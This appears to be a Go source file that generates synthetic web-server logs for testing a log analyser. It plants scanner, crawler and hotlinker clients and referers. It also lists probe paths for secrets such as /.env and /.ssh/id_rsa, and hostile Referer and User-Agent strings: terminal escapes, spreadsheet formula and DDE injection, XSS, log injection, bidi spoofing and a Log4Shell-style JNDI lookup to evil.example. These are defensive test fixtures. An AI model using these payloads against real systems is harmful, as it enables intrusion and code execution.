package gen

// Planted clients, by index. Visitors follow.
const (
	firstScanner = 0
	firstFlooder = 6
	firstCrawler = 8
	firstShared  = 12
	firstVisitor = 16
)

// plantedClients are at the front of every log's clients. Their addresses are
// fixed, so that the example rulesets can name them.
var plantedClients = [firstVisitor]struct{ addr, country string }{
	// scanners: one network
	{"12.34.56.65", "US"}, {"12.34.56.70", "US"}, {"12.34.56.77", "US"},
	{"12.34.56.90", "US"}, {"12.34.56.101", "US"}, {"12.34.56.120", "US"},
	// flooders
	{"14.160.20.7", "VN"}, {"95.24.130.9", "RU"},
	// crawlers, as crawlerAgents
	{"66.249.66.1", "US"}, {"12.150.1.20", "US"}, {"12.150.1.30", "US"}, {"12.150.1.40", "US"},
	// many people behind one address
	{"39.192.4.4", "ID"}, {"117.192.8.8", "IN"}, {"41.32.16.16", "EG"}, {"2001:db8:cafe::1", ""},
}

// crawlerAgents are the user agents of the crawlers, in their order.
var crawlerAgents = [firstShared - firstCrawler]string{
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
}

// probes are the paths that scanners ask for.
var probes = []string{
	"/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/wp-admin/setup-config.php", "/phpmyadmin/index.php",
	"/admin/login", "/administrator/index.php", "/server-status", "/actuator/env", "/.aws/credentials", "/backup.sql",
	"/config.php.bak", "/cgi-bin/luci", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
	"/..%2f..%2f..%2fetc/passwd", "/boaform/admin/formLogin", "/.ssh/id_rsa", "/owa/auth/logon.aspx", "/api/v1/users",
	"/wp-content/plugins/hello.php", "/debug/pprof/", "/console/", "/manager/html", "/.svn/entries", "/id_rsa", "/old.zip",
}

var scannerAgents = []string{"python-requests/2.31.0", "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "curl/8.4.0"}

// The own site's hosts: pages and scripts on one, images on the other.
const (
	ownHost   = "www.shop.example"
	imageHost = "img.shop.example"
)

// hostRole is how a site that sends visitors behaves.
type hostRole uint8

const (
	ownSite hostRole = iota
	search
	social
	hotlinker // embeds images; its visitors never come to the own pages
	partner   // embeds images; many of its visitors do come
	oddly     // only in oddReferers
	elsewhere // one of the many: embeds or links, by its index
)

// hotlinkHosts are the planted hotlinkers, the busiest first.
var hotlinkHosts = [...]string{
	"pics.hotlink.example", "www.imagegrab.example", "board1.leech.example", "board2.leech.example",
	"board3.leech.example", "feed.mirror-shop.test", "www.wallpaper-rip.test", "m.cheapcopy.test",
}

// namedHosts are at the front of every log's Referer hosts.
var namedHosts = [...]struct {
	name string
	role hostRole
}{
	{ownHost, ownSite}, {imageHost, ownSite},
	{"www.google.com", search}, {"www.bing.com", search}, {"duckduckgo.com", search}, {"search.brave.com", search},
	{"www.facebook.com", social}, {"t.co", social}, {"www.pinterest.com", social}, {"www.reddit.com", social},
	{"www.price-compare.test", partner},
	{"xn--bcher-kva.example", oddly}, {"203.0.113.9", oddly}, {"[2001:db8::5]", oddly}, {"evil.example", oddly}, {"evil", oddly},
}

const fixedHosts = len(namedHosts) + len(hotlinkHosts)

// oddReferer is a Referer as sent and the host that it amounts to or, in
// parentheses, the class of those without one.
type oddReferer struct{ raw, want string }

// oddReferers are written in an unusual way or have no host.
var oddReferers = []oddReferer{
	{"android-app://com.example.reader/", "(app)"},
	{"HTTPS://WWW.Shop.Example/Cart", ownHost},
	{"http://user:secret@board1.leech.example:8080/x", "board1.leech.example"},
	{"https://www.shop.example./", ownHost},
	{"http://b\u00fccher.example/", "xn--bcher-kva.example"},
	{"http://203.0.113.9/proxy?u=1", "203.0.113.9"},
	{"http://[2001:DB8::5]:8080/", "[2001:db8::5]"},
	{"android-app://com.google.android.googlequicksearchbox/", "(app)"},
	{"chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/", "(extension)"},
	{"about:blank", "(opaque)"},
	{"null", "(opaque)"},
	{"ftp://files.example/pub/", "(other scheme)"},
	{"www.shop.example/sale", "(no scheme)"},
	{"//www.shop.example/", "(no scheme)"},
	{"http://", "(malformed)"},
	{"https:///path/only", "(malformed)"},
}

// hostileReferers attack a terminal, a spreadsheet, a browser or a parser.
var hostileReferers = []oddReferer{
	{"http://evil.example/\x1b]0;owned\x07\x1b[2J", "evil.example"},
	{"http://ev\x1bil.example/", "(malformed)"},
	{"=HYPERLINK(\"http://evil.example\",\"x\")", "(no scheme)"},
	{"http://evil.example/\"><script>alert(1)</script>", "evil.example"},
	{"http://evil.example/\u202egpj.exe", "evil.example"},
	{"javascript:alert(document.cookie)", "(other scheme)"},
	{"http://evil\\@www.shop.example/", "evil"},
	{"http://evil.example/\" 200 1 \"-\" \"-", "evil.example"},
}

// hostileAgents do the same in the User-Agent.
var hostileAgents = []string{
	"\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link",
	"+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|'/C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"Mozilla \"quoted\" \\ back\\slash\\",
	"<script>alert('ua')</script><img src=x onerror=alert(1)>",
	"gnp.\u202eexe \u2066bidi\u2069 \u200bzero",
	"nul\x00bell\x07tab\tnewline\ndel\x7f",
	"not utf-8: \xff\xfe\xc3",
	"%s%n%x %2522 %zz {{7*7}} ${jndi:ldap://evil.example/a}",
}
